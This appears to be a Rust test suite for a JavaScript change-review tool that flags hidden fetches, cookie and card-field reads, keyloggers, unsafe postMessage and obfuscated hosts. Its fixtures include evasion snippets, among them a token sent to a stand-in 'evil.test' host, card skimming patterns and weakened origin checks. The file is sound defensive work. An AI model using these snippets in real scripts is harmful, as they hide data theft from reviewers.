//! Ways to keep a capability, a host or a line from the reviewer, each under the name of the way.

use std::time::Instant;

use pinfold_triage::{Capability, Change, Findings, Limits, NotAnalysed, compare};

fn changed(old: &[u8], new: &[u8]) -> Findings {
    compare(Some(old), new, Limits::default(), &|_| None)
}

fn added(script: &str) -> Findings {
    changed(b"var version = 1;", script.as_bytes())
}

#[track_caller]
fn says(script: &str, capability: Capability) {
    let findings = added(script);
    assert_eq!(findings.not_analysed, None, "{script}");
    let found: Vec<_> = findings.facts.iter().map(|fact| fact.capability).collect();
    assert!(found.contains(&capability), "{script}: {found:?}");
}

#[test]
fn a_global_behind_a_frame_is_a_global() {
    for script in [
        "frames[0]['fe' + 'tch'](u)",
        "window.frames[0].fetch(u)",
        "frame.contentWindow.fetch(u)",
        "frame['content' + 'Window'].fetch(u)",
        "node.ownerDocument.defaultView.fetch(u)",
        "opener['fe' + 'tch'](u)",
        "var other = window.open('about:blank'); other.fetch(u)",
    ] {
        says(script, Capability::Fetch);
    }
}

#[test]
fn a_name_that_is_put_together_is_named_whatever_it_is_a_member_of() {
    for script in [
        "new Proxy(window, {})['fe' + 'tch'](u)",
        "var o = {}; o.x = window; o.x['fe' + 'tch'](u)",
        "var a = []; a.push(window); a[0]['fe' + 'tch'](u)",
        "class W { static w = window; } W.w['fe' + 'tch'](u)",
        "for (const w of [window]) w['fe' + 'tch'](u)",
        "[window].map(w => w['fe' + 'tch'](u))",
        "new Map([['a', window]]).get('a')['fe' + 'tch'](u)",
        "Object.create(window).fetch(u)",
        "new Proxy(window, {}).fetch(u)",
    ] {
        says(script, Capability::Fetch);
    }
}

#[test]
fn fields_that_are_picked_by_a_pattern_are_named() {
    says("if (/cc|card|cvv|exp/i.test(field.name)) send(field.value)", Capability::CardField);
    says("fields.filter(f => /^card[-_]?num(ber)?$/i.test(f.id))", Capability::CardField);
    says("name.match(/login|pass_?word/)", Capability::PasswordField);
    let harmless = added("if (/^(?:span|pan|pinch)$/.test(gesture)) move()");
    assert_eq!(harmless.facts.iter().map(|fact| fact.capability).collect::<Vec<_>>(), []);
}

#[test]
fn an_image_that_is_made_to_load_something_is_one_fact() {
    let facts = added("new Image().src = u; (new Image()).srcset = u").facts;
    assert_eq!(facts.iter().map(|fact| fact.capability).collect::<Vec<_>>(), [Capability::Image]);
    says("(new Audio()).src = u", Capability::Resource);
}

#[test]
fn this_of_a_plain_call_is_the_global_object() {
    says("(function () { return this })()['fe' + 'tch'](u)", Capability::Fetch);
    says("(0, function () { return this })().fetch(u)", Capability::Fetch);
}

#[test]
fn a_global_that_is_taken_apart_is_used() {
    says("const { ['fe' + 'tch']: f } = window; f(u)", Capability::Fetch);
    says("var f; ({ fetch: f } = window); f(u)", Capability::Fetch);
    says("function g({ fetch: q }) { q(u) } g(window)", Capability::Fetch);
    says("const { document: { cookie: c } } = window", Capability::Cookies);
    says("(({ cookie: c }) => c)(document)", Capability::Cookies);
}

#[test]
fn with_hides_no_name() {
    says("with (document) { send(cookie) }", Capability::Cookies);
    says("with (navigator) { sendBeacon(u) }", Capability::Beacon);
    says("with (x) { y(z) }", Capability::UnknownGlobal);
}

#[test]
fn functions_that_reach_members_by_name_hide_none() {
    says("Object.getOwnPropertyDescriptor(window, 'fetch').value(u)", Capability::Fetch);
    says(
        "Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)",
        Capability::Cookies,
    );
    says("document.__lookupGetter__('cookie').call(document)", Capability::Cookies);
    says("Object.values(window)[17](u)", Capability::ListedGlobals);
    says("Object.entries(window).find(e => e[0] == n)[1](u)", Capability::ListedGlobals);
    says("Reflect.set(node, 'innerHTML', x)", Capability::Html);
    says("Object.assign(node, { innerHTML: x })", Capability::Html);
    says("Object.assign(document, { onkeydown: f })", Capability::KeyListener);
    says("Object.getPrototypeOf(async function () {}).constructor('x')()", Capability::FunctionConstructor);
    says("Function['call'](null, 'x')()", Capability::FunctionConstructor);
}

#[test]
fn navigation_under_another_name_is_navigation() {
    says("var o = window.open; o(u)", Capability::Navigation);
    says("location.assign.call(location, u)", Capability::Navigation);
    says("document.location.href = u", Capability::Navigation);
}

#[test]
fn a_name_that_is_written_again_hides_no_earlier_value() {
    says("let k = 'fetch'; window[k](u); k = 'x'", Capability::UnknownGlobal);
    says("let k = 'fe'; k += 'tch'; window[k](u)", Capability::UnknownGlobal);
    says("let t = 'script'; document.createElement(t); t = 'b'", Capability::UnknownElement);
    says("let w = 1; w = window; w = w; w.fetch(u)", Capability::Fetch);
    says(
        "function t() { return 'b' } t = function () { return 'script' }; document.createElement(t())",
        Capability::UnknownElement,
    );
    says("var w = x || window; w['fe' + 'tch'](u)", Capability::Fetch);
}

#[test]
fn a_list_that_is_changed_is_not_what_stands_where_it_was_made() {
    says("var t = ['b', 'script']; t.reverse(); document.createElement(t[0])", Capability::UnknownElement);
    says("var o = { t: 'b' }; o.t = 'script'; document.createElement(o.t)", Capability::UnknownElement);
    says("var o = { t: 'b' }; Object.assign(o, p); document.createElement(o.t)", Capability::UnknownElement);
}

#[test]
fn a_function_that_is_handed_on_takes_any_argument() {
    let script = "function make(t) { return document.createElement(t) } make('b'); ['script'].map(make)";
    says(script, Capability::UnknownElement);
    let calls = "make('b');".repeat(5);
    says(
        &format!("function make(t) {{ return document.createElement(t) }} {calls} make(x)"),
        Capability::UnknownElement,
    );
}

#[test]
fn an_event_of_a_list_is_not_known_and_that_is_said() {
    says("['keydown'].forEach(e => document.addEventListener(e, f))", Capability::UnknownEvent);
}

#[test]
fn builtins_that_are_worked_out_wrongly_would_hide_a_name() {
    says("window['😀fetch'.slice(2)](u)", Capability::UnknownGlobal);
    says("window['fetch'.substring(5, 0)](u)", Capability::Fetch);
    says("window['fxetcxh'.replace(/x/, '').replace(/x/, '')](u)", Capability::UnknownGlobal);
    says("document['COOKIE'.replace(/[A-Z]/i, 'x')]", Capability::UnknownGlobal);
    says(
        "window[Array.from('gfudi', c => String.fromCharCode(c.charCodeAt(0) - 1)).join('')](u)",
        Capability::UnknownGlobal,
    );
}

#[test]
fn a_timer_of_a_text_that_is_not_known_runs_it() {
    says("setTimeout(c + ')', 1)", Capability::StringTimer);
    says("setTimeout(atob(x), 1)", Capability::StringTimer);
    says("setTimeout(`${x}`, 1)", Capability::StringTimer);
}

#[test]
fn what_loads_without_a_request_is_a_request() {
    says("document.createElement('link').href = u", Capability::Resource);
    says("document.scripts[0].src = u", Capability::Resource);
    says("old.cloneNode().setAttribute('src', u)", Capability::Resource);
    says("new Audio(u)", Capability::Resource);
    says("new FontFace('x', 'url(' + u + ')').load()", Capability::Resource);
    says("node.style.background = 'url(' + u + ')'", Capability::Resource);
    says("import 'https://evil.test/a.js'", Capability::DynamicImport);
    says("CSS.paintWorklet.addModule(u)", Capability::Worker);
}

#[test]
fn an_attribute_that_loads_is_named_however_it_is_set() {
    says("img.setAttributeNS(null, 'src', u)", Capability::Resource);
    says(
        "var a = document.createAttribute('src'); a.value = u; img.setAttributeNode(a)",
        Capability::Resource,
    );
    says("img.getAttributeNode('src').value = u", Capability::Resource);
    says("Object.assign(img, { src: u })", Capability::Resource);
    says("Reflect.set(img, 's' + 'rc', u)", Capability::Resource);
    says("form.setAttributeNS(null, 'action', u)", Capability::Form);
}

#[test]
fn a_style_that_loads_without_url_is_named() {
    says("style.textContent = \"@import '//x.test/a.css'\"", Capability::Resource);
    says("node.style.background = `image-set(\"${u}\" 1x)`", Capability::Resource);
    says("document.styleSheets[0].addRule('a', css)", Capability::Resource);
    says("document.adoptedStyleSheets = [sheet]", Capability::Resource);
}

#[test]
fn code_in_an_address_is_code() {
    says("a.href = 'javascript:' + 'f(' + x + ')'", Capability::InlineHandler);
    assert_eq!(added("a.href = 'javascript:void(0);'").facts, []);
}

#[test]
fn listeners_in_a_table_are_listeners() {
    says("$(document).on({ 'keydown.menu': f })", Capability::KeyListener);
    says("$(document).on({ paste: f })", Capability::Clipboard);
}

#[test]
fn what_makes_elements_and_is_handed_on_makes_any() {
    says("['script'].map(document.createElement, document)", Capability::UnknownElement);
}

#[test]
fn a_policy_that_lets_any_html_pass_is_no_guard() {
    says("trustedTypes.createPolicy('default', { createHTML: x => x })", Capability::Html);
    says("document.execCommand('insertHTML', false, x)", Capability::Html);
}

#[test]
fn what_asks_people_for_something_is_a_fact() {
    says("Notification.requestPermission()", Capability::Permission);
    says("new PaymentRequest(methods, details).show()", Capability::Permission);
    says("navigator['u' + 'sb'].requestDevice({})", Capability::Permission);
    says("showDirectoryPicker().then(f)", Capability::Permission);
    says("registration.pushManager.subscribe({})", Capability::Permission);
    says("PublicKeyCredential.isConditionalMediationAvailable()", Capability::Credentials);
}

/// As many checks as before, and none where messages come in.
#[test]
fn a_check_that_was_moved_elsewhere_checks_nothing() {
    let old = "addEventListener('message', e => { if (e.origin !== 'https://a.test') return; run(e.data) })";
    for new in [
        "addEventListener('message', e => { run(e.data) }); function dead(e) { if (e.origin !== 'https://a.test') return; }",
        "addEventListener('message', e => { run(e.data); if (e.origin !== 'https://a.test') return; })",
        "onmessage = e => run(e.data); function dead(e) { if (e.origin !== 'https://a.test') return; }",
        "class A { constructor() { self.addEventListener('message', this.heard.bind(this)) } heard(e) { run(e.data) } \
         dead(e) { if (e.origin !== 'https://a.test') return; } }",
    ] {
        let findings = changed(old.as_bytes(), new.as_bytes());
        let found: Vec<_> = findings.facts.iter().map(|fact| fact.capability).collect();
        assert_eq!(found, [Capability::UncheckedMessage], "{new}");
    }
    for checked in [
        "onmessage = e => { if (ok(e)) run(e.data) }; function ok(e) { return e.origin === 'https://a.test' }",
        "addEventListener('message', e => { var d = JSON.parse(e.data); if (e.origin === O) run(d) })",
        "addEventListener('message', ({ origin, data }) => { if (origin === O) run(data) })",
    ] {
        assert_eq!(added(checked).facts, [], "{checked}");
    }
}

#[test]
fn a_check_of_what_was_taken_apart_is_a_check_and_missed_once_it_is_gone() {
    for (old, new) in [
        (
            "f = ({ origin, data }) => { if (origin !== O) return; run(data) }",
            "f = ({ origin, data }) => { run(data) }",
        ),
        (
            "f = e => { var o = e.origin; if (o !== O) return; run(e) }",
            "f = e => { var o = e.origin; run(e) }",
        ),
        (
            "f = e => { const { source: s } = e; if (s !== top) return; run(e) }",
            "f = e => { const { source: s } = e; run(e, s) }",
        ),
    ] {
        assert_eq!(changed(old.as_bytes(), new.as_bytes()).losses.len(), 1, "{new}");
    }
}

#[test]
fn a_check_that_goes_on_after_a_word_leads_nowhere() {
    let old = "f = e => { if (e.origin !== O) { warn(e); return } run(e) }";
    let new = "f = e => { if (e.origin !== O) { warn(e) } run(e) }";
    assert_eq!(changed(old.as_bytes(), new.as_bytes()).losses.len(), 1);
}

/// A keylogger that sends by what is there already, at equal counts of everything.
#[test]
fn a_listener_that_does_something_else_is_a_fact() {
    let log = "function log(x) { fetch('/ping', { body: x }) }";
    let (old, new) = ("if (e.key == 'Escape') close()", "if (e.key == 'Escape') close(); log(e.key)");
    for (capability, listens) in [
        (Capability::KeyListener, "document.addEventListener('keydown', function (e) { BODY })"),
        (Capability::KeyListener, "document.onkeydown = e => { BODY }"),
        (
            Capability::KeyListener,
            "class A { go() { el.addEventListener('keyup', this.typed.bind(this)) } typed(e) { BODY } }",
        ),
        (Capability::FormListener, "form.addEventListener('submit', send); function send(e) { BODY }"),
        (Capability::Clipboard, "$(form).on('paste', (e) => { BODY })"),
    ] {
        let with = |body| format!("{log} {}", listens.replace("BODY", body));
        let findings = changed(with(old).as_bytes(), with(new).as_bytes());
        let found: Vec<_> = findings.facts.iter().map(|fact| (fact.capability, fact.others)).collect();
        assert!(found.contains(&(capability, 1)), "{listens}: {found:?}");
    }
    let renamed = changed(b"on('keyup', e => { close(e); go() })", b"on('keyup', x => { go(); close(x) })");
    assert_eq!(renamed.facts, []);
}

#[test]
fn a_check_or_a_cleaning_that_was_emptied_is_another() {
    for (old, new) in [
        (
            "f = e => { if (!ok(e.origin)) return; run(e) }; function ok(o) { return o === 'https://a.test' }",
            "f = e => { if (!ok(e.origin)) return; run(e) }; function ok(o) { return true }",
        ),
        (
            "f = e => { if (!ok(e.origin)) return; run(e) }; var ok = o => /^https:..a.test$/.test(o)",
            "f = e => { if (!ok(e.origin)) return; run(e) }; var ok = o => /https:..a.test/.test(o)",
        ),
        (
            "function escapeHtml(s) { return s.replace(/[<>&]/g, f) } el.innerHTML = escapeHtml(x)",
            "function escapeHtml(s) { return s.replace(/[>&]/g, f) } el.innerHTML = escapeHtml(x)",
        ),
        ("if (!verify(sig)) throw 1; go()", "verify(sig); go()"),
        ("if (!verify(sig)) throw 1; go()", "if (verify(sig)) throw 1; go()"),
    ] {
        let losses = changed(old.as_bytes(), new.as_bytes()).losses;
        assert_eq!(
            losses.iter().map(|loss| (loss.reviewed, loss.new)).collect::<Vec<_>>(),
            [(1, 1)],
            "{new}"
        );
    }
}

#[test]
fn of_a_cleaning_that_was_emptied_it_is_said_where_and_not_only_where_it_is_called() {
    let script =
        |does: &str| format!("function escapeHtml(s) {{ count(); {does} }} el.innerHTML = escapeHtml(x)");
    let (old, new) = (script("return s.replace(/[<>&]/g, f);"), script("return s;"));
    let losses = changed(old.as_bytes(), new.as_bytes()).losses;
    let [loss] = losses.as_slice() else { panic!("{losses:?}") };
    let differs = |sites: &[pinfold_triage::Site]| {
        let there = sites[0].differs.as_ref().unwrap_or_else(|| panic!("{loss:?}"));
        (there.line, there.excerpt.to_string())
    };
    assert_eq!(differs(&loss.others), (3, "return s;".to_owned()));
    assert_eq!(differs(&loss.gone), (3, "return s.replace(/[<>&]/g, f);".to_owned()));
}

#[test]
fn the_account_that_something_is_sent_to_is_told_from_another() {
    let (old, new) =
        (b"fetch('https://in.test/acct/12345/e')", b"fetch('https://in.test/acct/67890/e'); f()");
    assert_eq!(changed(old, new).facts.len(), 1);
    let version = changed(b"fetch('https://in.test/v1.2.3')", b"fetch('https://in.test/v1.2.4'); f()");
    assert_eq!(version.facts, []);
}

#[test]
fn what_is_put_into_an_object_that_is_sent_is_told_from_something_else_however_it_is_put() {
    for put in [
        "o.body = IT",
        "o.a.body = IT",
        "[o.body] = [IT]",
        "({ x: o.body } = { x: IT })",
        "for (o.body of [IT]);",
        "l.push(IT)",
        "l['push'](IT)",
        "l.fill(IT)",
        "o.a.l.push(IT)",
    ] {
        let script = |it: &str| {
            let begun =
                "(function () { var c = document.cookie, n = 1, o = { a: { l: [] } }, l = []; use(c.length)";
            let sent =
                "fetch('https://v.test/log', { method: 'POST', body: o.a.body + o.a.l + o.body + l.join() })";
            format!("{begun}; {}; {sent} }})()", put.replace("IT", it))
        };
        let findings = changed(script("n").as_bytes(), script("c").as_bytes());
        let found: Vec<_> = findings.facts.iter().map(|fact| fact.capability).collect();
        assert!(found.contains(&Capability::Fetch), "{put}: {found:?}");
    }
}

#[test]
fn what_a_socket_sends_is_compared() {
    let (old, new) =
        (b"var w = new WebSocket(u); w.send(a.text)", b"var w = new WebSocket(u); w.send(a.card)");
    let facts = changed(old, new).facts;
    assert_eq!(facts.iter().map(|fact| fact.capability).collect::<Vec<_>>(), [Capability::WebSocket]);
}

#[test]
fn a_message_to_an_origin_that_nobody_can_read_may_go_to_any() {
    says("parent.postMessage(d, x)", Capability::PostMessageAny);
    says("f = (d, e) => parent.postMessage(d, { targetOrigin: e.data.to })", Capability::PostMessageAny);
    for known in ["w.postMessage(d, [p])", "w.postMessage(d)", "w.postMessage(d, '/')"] {
        assert_eq!(added(known).facts, [], "{known}");
    }
}

#[test]
fn a_message_to_a_window_that_may_be_another_is_told_from_one_to_its_own() {
    let own = [
        "window.postMessage(d, '*')",
        "(function (w) { w.postMessage(d, '*') })(window)",
        "var w = typeof self !== 'undefined' ? self : global; w.postMessage(d, '*')",
        "const w = 'undefined' != typeof globalThis ? globalThis : 'u' > typeof window ? window : global; w.postMessage(d, '*')",
        "var w = function () { if (typeof globalThis !== 'undefined') return globalThis; return typeof self !== 'undefined' ? self \
         : global }(); w.postMessage(d, '*')",
    ];
    for own in own {
        says(own, Capability::PostMessageOwn);
        let facts = added(own).facts;
        assert!(facts.iter().all(|fact| fact.capability != Capability::PostMessageAny), "{own}: {facts:?}");
    }
    for other in [
        "top.postMessage(d, '*')",
        "window.parent.postMessage(d, '*')",
        "(function (window) { window.postMessage(d, '*') })(top)",
        "(function (window) { window.postMessage(d, '*') })(x ? window : opener)",
        "self = top; self.postMessage(d, '*')",
        "window['se' + 'lf'] = top; self.postMessage(d, '*')",
        "var w = window; w = parent; w.postMessage(d, '*')",
        "var w = typeof self !== 'function' ? self : top; w.postMessage(d, '*')",
        "var w = function () { if (x) return window; return parent }(); w.postMessage(d, '*')",
        "var w = function () { if (x) return window; return function () { return parent }() }(); w.postMessage(d, '*')",
        "window.postMessage.call(top, d, '*')",
        "(0, window).top.postMessage(d, '*')",
        "global.postMessage(d, '*')",
    ] {
        says(other, Capability::PostMessageAny);
    }
}

/// Each way to put another window in place of the own one.
#[test]
fn what_is_put_in_place_of_the_own_window_is_not_it() {
    let posts = |name: &str| format!("{name}.postMessage(d, '*')");
    let (post, window, own) = (posts("w"), posts("window"), posts("self"));
    for other in [
        // A local by the name of a window, or one that is not there.
        format!("(function (self) {{ var w = typeof self !== 'undefined' ? window : top; {post} }})()"),
        format!("self = undefined; var w = typeof self !== 'undefined' ? window : top; {post}"),
        format!("with ({{ window: top }}) {window}"),
        format!("(function () {{ eval('var window = top'); {window} }})()"),
        // A variable that is declared again, or given something by no assignment.
        format!("var w = window; for (var w of [top]) {post}"),
        format!("(function () {{ var w = window; for (var [w] of [[top]]) {post} }})()"),
        format!("(function () {{ var w = window; var {{ a: {{ w }} }} = {{ a: {{ w: top }} }}; {post} }})()"),
        format!("(function () {{ var w = window; eval('w = top'); {post} }})()"),
        format!("(function () {{ var w = window; {{ function w() {{}} }} {post} }})()"),
        format!("var w = window; window.w = top; {post}"),
        format!("var w = window; this.w = top; {post}"),
        format!("var w = window; Reflect.set(window, 'w', top); {post}"),
        // A parameter that is given something else too.
        format!("(function (w) {{ {post}; if (w !== top) arguments.callee(top) }})(window)"),
        format!("(function (w) {{ arguments[0] = top; {post} }})(window)"),
        format!("(function (w) {{ var take = () => {{ arguments[0] = top }}; take(); {post} }})(window)"),
        format!("(function f(w) {{ {post}; [top].forEach(f) }})(window)"),
        format!("function f(w) {{ {post} }} f(...[top]); f(window)"),
        format!("function f(w = top) {{ {post} }} f(window); f()"),
        format!("(function (v, w) {{ {post} }})(...[1, top], window)"),
        format!("(function (w) {{ {post} }}).call(...[null, top], window)"),
        // A function that gives another one later.
        format!(
            "function o() {{ return top }} function g() {{ g = o; return window }} g(); {}",
            posts("g()")
        ),
        format!("function g(w = top) {{ return w }} g(window); {}", posts("g()")),
        // A member of the window.
        format!("Object.defineProperty(window, 'self', {{ value: top }}); {own}"),
        format!("Object.defineProperties(window, {{ self: {{ get: () => top }} }}); {own}"),
        format!("Object.assign(window, {{ self: top }}); {own}"),
        format!("Object.assign(window, JSON.parse(x)); {own}"),
        format!("Reflect.set(window, 'self', top); {own}"),
        format!("window.__defineGetter__('self', () => top); {own}"),
        format!("[window.self] = [top]; {own}"),
        format!("for (window.self of [top]) {own}"),
        format!("window[k] = top; {own}"),
        format!("var p = {{ self: top }}; for (var k in p) window[k] = p[k]; {own}"),
        format!("delete window.self; {own}"),
        format!("{{ function self() {{}} }} {own}"),
        format!("setTimeout('self = top'); {own}"),
        // What is called of it.
        format!("window.postMessage = top.postMessage.bind(top); {window}"),
        format!("var postMessage = top.postMessage.bind(top); {window}"),
        format!("function postMessage(d, to) {{ take(d) }} {window}"),
        format!("{{ function postMessage() {{}} }} {window}"),
        format!("Object.defineProperty(window, 'postMessage', {{ value: take }}); {window}"),
        // Code in a string may be run by another window.
        "parent.eval('window.postMessage(secret, \"*\")')".to_owned(),
        "parent.setTimeout('window.postMessage(secret, \"*\")', 1)".to_owned(),
    ] {
        says(&other, Capability::PostMessageAny);
        let facts = added(&other).facts;
        assert!(facts.iter().all(|fact| fact.capability != Capability::PostMessageOwn), "{other}");
    }
}

#[test]
fn a_message_to_the_own_window_is_known_in_a_minified_library() {
    let library = "!function (e, t) { e.lib = t() }(this, function () { var v = 'undefined' != typeof globalThis ? globalThis \
        : 'undefined' != typeof self ? self : 'undefined' != typeof window ? window : global; return function (t, n) { return \
        v.addEventListener('message', function (e) { e.source === v && e.data === t && n.shift()() }, !1), function (e) { n.push(e), \
        v.postMessage(t, '*') } }('lib@' + Math.random(), []) })";
    says(library, Capability::PostMessageOwn);
}

#[test]
fn a_message_to_an_origin_that_was_not_named_before_goes_there() {
    let new = added("w.postMessage(localStorage.getItem('token'), 'https://in.evil.test')");
    assert!(new.facts.iter().any(|fact| fact.capability == Capability::PostMessage), "{:?}", new.facts);
    assert_eq!(new.hosts[0].reached_by, Some(Capability::PostMessage));
    // The address in what is sent is no origin.
    let sent = added("w.postMessage('https://in.evil.test', '/')");
    assert_eq!((sent.facts, sent.hosts[0].reached_by), (Vec::new(), None));
    let (old, new) =
        (b"show('https://a.test/x')", b"show('https://a.test/x'); w.postMessage(d, 'https://a.test')");
    assert_eq!(changed(old, new).facts, []);
}

#[test]
fn many_places_of_no_weight_do_not_push_out_the_one_that_counts() {
    let crowd: String = (0..100).map(|at| format!("fetch('/crowd/{at}');")).collect();
    for telling in
        ["fetch('/x', { body: form.cardNumber })", "fetch(document.cookie)", "self['fe' + 'tch'](u)"]
    {
        let findings = added(&format!("{crowd} {telling}"));
        let fact = findings.facts.iter().find(|fact| fact.capability == Capability::Fetch);
        let first = fact.and_then(|fact| fact.sites.first()).map(|site| &*site.excerpt);
        assert!(first.is_some_and(|first| !first.contains("crowd")), "{telling}: {first:?}");
    }
}

/// More places than are remembered could hide the one that is another, and that is said.
#[test]
fn more_places_than_are_remembered_are_said() {
    let crowd = "fetch('/a');\n".repeat(2001);
    let findings = changed(crowd.as_bytes(), format!("{crowd} fetch(secret)").as_bytes());
    assert_eq!(findings.not_analysed, Some(NotAnalysed::TooMuch));
}

#[test]
fn questions_of_the_environment_are_facts() {
    says("'webdriver' in navigator", Capability::Automation);
    says("new Date().getFullYear() > 2026", Capability::Date);
    says("String(location)", Capability::Location);
    says("location + ''", Capability::Location);
    says("location[k](u)", Capability::UnknownGlobal);
    says("new FormData(document.forms[0])", Capability::FormListener);
}

#[test]
fn a_date_that_is_a_number_is_said_as_a_date_also_where_it_is_worked_out() {
    let dates = |code: &str| -> Vec<_> {
        let findings = added(code);
        let facts = findings.facts.iter().filter(|fact| fact.capability == Capability::Date);
        facts.flat_map(|fact| &fact.sites).filter_map(|site| site.means.clone()).collect()
    };
    for gate in [
        "if (Date.now() > 1798761600000) f()",
        "if (Date.now() / 1000 >= 1798761600) f()",
        "if (1798761600 * 1e3 < +new Date()) f()",
        "if (new Date() < new Date(1798761600000)) f()",
    ] {
        assert_eq!(dates(gate), ["2027-01-01 00:00 UTC".into()], "{gate}");
    }
    assert_eq!(dates("if (size > 1048576 * 2) f()"), []);
}

/// What `javascript-obfuscator` and its like make: the table is turned until a sum is right, so that its order is not known.
#[test]
fn a_table_that_is_turned_round_is_a_fact_and_not_read_in_the_wrong_order() {
    let script = "function table() { var t = ['cookie', '11x', 'title', 'a', 'b']; table = function () { return t; }; return table(); }
        function read(i) { return table()[i]; }
        (function (t, sum) { var list = t(); while (true) { try { if (parseInt(read(0)) === sum) break; else list['push'](list['shift']()); } catch (e) { list['push'](list['shift']()); } } })(table, 11);
        send(document[read(4)])";
    says(script, Capability::ShuffledTable);
    says(script, Capability::UnknownGlobal);
}

#[test]
fn a_host_in_any_of_the_ways_that_browsers_read_is_named() {
    for (url, host) in [
        ("https:evil.test/x", "evil.test"),
        ("https:\\\\\\\\evil.test/x", "evil.test"),
        ("/\\\\evil.test/x", "evil.test"),
        ("ht\\ntps://ev\\til.test/x", "evil.test"),
        ("https://evil。test/x", "evil.test"),
        ("https://3232235777/x", "192.168.1.1"),
        ("https://0x7f.1/x", "127.0.0.1"),
        ("https://[2001:db8::1]/x", "[2001:db8::1]"),
    ] {
        let findings = changed(b"fetch('/a')", format!("fetch('{url}')").as_bytes());
        let hosts: Vec<_> = findings.hosts.iter().map(|found| &*found.host).collect();
        assert_eq!(hosts, [host], "{url}");
    }
    let findings = added("f(p + '://' + 'evil.test' + '/x')");
    assert_eq!(findings.hosts.first().map(|found| &*found.host), Some("evil.test"));
}

#[test]
fn many_hosts_in_plain_sight_do_not_push_out_the_hidden_one() {
    let crowd: String = (0..1000).map(|at| format!("f('https://h{at}.test/');")).collect();
    let findings = added(&format!("{crowd} f('https://ev' + 'il.example/')"));
    assert!(findings.hosts.iter().any(|found| &*found.host == "evil.example" && found.hidden));
    assert_eq!(findings.not_analysed, Some(NotAnalysed::TooMuch));
}

#[test]
fn a_comment_of_scripts_that_is_code_in_modules_is_no_trivia() {
    for hidden in ["x <!--fetch(u).y", "x = y <!--z.n"] {
        let findings = changed(b"x", hidden.as_bytes());
        assert_eq!(
            (findings.change, findings.not_analysed),
            (Change::Unknown, Some(NotAnalysed::TwoReadings)),
            "{hidden}"
        );
    }
    assert_eq!(changed(b"while (n --> 0) f()", b"while (n-->0) f() // v2").change, Change::Trivia);
    assert_eq!(changed(b"f()", b"f()\n<!-- old\n--> old").change, Change::Trivia);
}

/// A comment that the scan takes for code could open a comment over what nests too deeply for the parser's stack.
#[test]
fn depth_behind_an_html_comment_is_counted() {
    let deep = "(".repeat(200_000);
    for script in [
        format!("\n--> /*\n{deep}"),
        format!("/*\n*/ --> `\n{deep}"),
        format!("a\u{2028}--> \"\n{deep}"),
        format!("x <!-- /*\n{deep}"),
    ] {
        let code = added(&script).not_analysed.map(|why| why.code());
        assert_eq!(code, Some("too-deep"), "{:?}", script.get(..12));
    }
}

#[test]
fn what_is_a_quotient_in_scripts_and_a_pattern_in_modules_has_two_readings() {
    let findings = added("await /\"/; fetch(u); /\"/g");
    assert_eq!((findings.change, findings.not_analysed), (Change::Unknown, Some(NotAnalysed::TwoReadings)));
    assert_eq!(added("async function f() { await /* all */ g() }").not_analysed, None);
}

#[test]
fn bytes_of_another_encoding_are_no_trivia() {
    assert_eq!(changed(b"f('\x81')", b"f('\x82')").change, Change::Data);
    let utf_16: Vec<u8> = "\u{feff}document.cookie".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let findings = changed(b"f()", &utf_16);
    assert!(findings.facts.iter().any(|fact| fact.capability == Capability::Cookies), "{findings:?}");
}

/// Each of these took minutes, and some of them no notice of a deadline.
#[test]
fn what_grows_with_the_square_is_bounded() {
    let texts: String = (0..800).map(|at| format!("window[a + 'x{at}'];")).collect();
    let hosts: Vec<String> = (0..10_000).map(|at| format!("'https://h{at}.test/'")).collect();
    for (name, script) in [
        ("writes", format!("var a; {}", "a=1;".repeat(60_000))),
        ("hosts", format!("x = [{}]", hosts.join(","))),
        ("texts", format!("var a = 'a'.repeat(262000); {texts}")),
    ] {
        let findings = added(&script);
        assert_ne!(findings.not_analysed, Some(NotAnalysed::Failed), "{name}");
        assert_ne!(findings.not_analysed, Some(NotAnalysed::TimeOver), "{name}");
    }
}

#[test]
fn whoever_uses_the_time_up_hides_no_host_that_stands_in_the_bytes() {
    let script = b"a = 1; fetch('https://evil.test/x')";
    let over = Limits::default().until(Instant::now());
    let findings = compare(Some(b"a = 1"), script, over, &|_| None);
    assert_eq!(findings.not_analysed.map(|why| why.code()), Some("time-over"));
    assert_eq!(findings.hosts.iter().map(|host| &*host.host).collect::<Vec<_>>(), ["evil.test"]);
}

/// A name of a minifier that stands for another variable is counted where nothing is done: it is said in all of what is sent,
/// whether or not that is newly sent, and on whichever of its lines.
#[test]
fn another_variable_under_a_name_of_a_build_is_no_mere_name_inside_of_what_is_sent() {
    let script = |inner: &str, number: u8| {
        format!(
            "on(function (e) {{ ask(function ({inner}) {{ show({inner}, 1); fetch('/log', {{ method: 'POST', body: [e, {number}] }}); \
             keep([e, {number}]); }}) }});"
        )
    };
    let findings = changed(script("t", 1).as_bytes(), script("e", 2).as_bytes());
    let lines = findings.diff.hunks.iter().flat_map(|hunk| &hunk.lines);
    let of_build =
        |line: &pinfold_triage::DiffLine| (line.text.trim().into(), line.other_names_are_of_build());
    let others: Vec<(String, bool)> = lines.filter(|line| line.other_names.is_some()).map(of_build).collect();
    assert_eq!(others, [("body: [e, 2]".to_owned(), false), ("keep([e, 2]);".to_owned(), true)]);
}
